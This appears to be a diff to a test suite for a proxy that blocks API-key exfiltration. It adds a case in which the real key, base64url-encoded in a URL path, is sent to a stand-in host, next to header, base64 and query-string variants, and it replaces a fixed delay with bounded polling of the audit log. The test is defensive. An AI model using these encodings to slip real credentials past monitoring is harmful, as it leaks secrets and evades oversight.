@@ -167,13 +167,14 @@ t.test('the placeholder sent to another allowed host: 403 credential_endpoint_mi
 t.test('the real key, raw, base64 or URL-encoded, to any host: blocked', async (t) => {
   const s = SECRETS.OPENAI_API_KEY;
   const before = other.requests.length;
-  const tries: { headers?: Record<string, string>; query?: string }[] = [
+  const tries: { headers?: Record<string, string>; query?: string; path?: string }[] = [
     { headers: { authorization: `Bearer ${s}` } },
     { headers: { 'x-data': Buffer.from(`k=${s}`).toString('base64') } },
     { query: `?k=${encodeURIComponent(s)}` },
+    { path: `/upload/${Buffer.from(s).toString('base64url')}` },
   ];
   for (const init of tries) {
-    const res = await viaProxy(`https://other.example.test:${other.port}/x${init.query ?? ''}`, { headers: init.headers ?? {} });
+    const res = await viaProxy(`https://other.example.test:${other.port}${init.path ?? '/x'}${init.query ?? ''}`, { headers: init.headers ?? {} });
     t.equal(res.status, 403);
     t.equal(res.headers['x-sluice-error'], 'secret_exfiltration');
   }
@@ -183,8 +184,13 @@ t.test('the real key, raw, base64 or URL-encoded, to any host: blocked', async (
 });
 
 t.test('no byte Sluice wrote contains a secret', async (t) => {
-  await new Promise((r) => setTimeout(r, 50));
-  const audit = JSON.stringify(sluice.auditEvents());
+  // The audit sink writes asynchronously: wait (bounded) for the last refusal to land.
+  let audit = '';
+  for (let i = 0; i < 100; i++) {
+    audit = JSON.stringify(sluice.auditEvents());
+    if ((audit.match(/"secret_exfiltration"/g) ?? []).length >= 5) break;
+    await new Promise((r) => setTimeout(r, 50));
+  }
   t.ok(audit.includes('credential_endpoint_mismatch'), 'the audit log has the findings');
   t.ok(audit.includes('secret_exfiltration'));
   const everything = [audit, Buffer.concat(humanOut).toString(), ...bodies].join('\n');
